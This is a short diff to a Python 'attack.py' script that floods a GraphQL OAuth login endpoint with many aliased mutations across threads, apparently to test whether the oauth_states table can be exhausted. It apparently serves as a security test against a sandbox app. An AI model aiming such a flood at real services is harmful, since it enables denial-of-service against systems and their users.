@@ -1,9 +1,9 @@
-"""State-table flood: threads send aliased officialAccountAuthorizeUrl requests for a while,
+"""State-table flood: threads send aliased startOfficialAccountLogin requests for a while,
 then print how many rows oauth_states holds. Usage: attack.py URL ALIASES SECONDS DBURL"""
 import json, subprocess, sys, threading, time, urllib.request
 url, aliases, seconds, db = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
-fields = " ".join(f'u{i}: officialAccountAuthorizeUrl(appId: "wxsandboxofficial1", redirectUri: "https://h5.example.com/")' for i in range(aliases))
-body = json.dumps({"query": "{ %s }" % fields}).encode()
+fields = " ".join(f'u{i}: startOfficialAccountLogin(input: {{appId: "wxsandboxofficial1", redirectUri: "https://h5.example.com/"}}) {{ expiresAt }}' for i in range(aliases))
+body = json.dumps({"query": "mutation { %s }" % fields}).encode()
 stats = {"ok": 0, "refused": 0, "codes": {}}
 lock = threading.Lock()
 end = time.time() + seconds
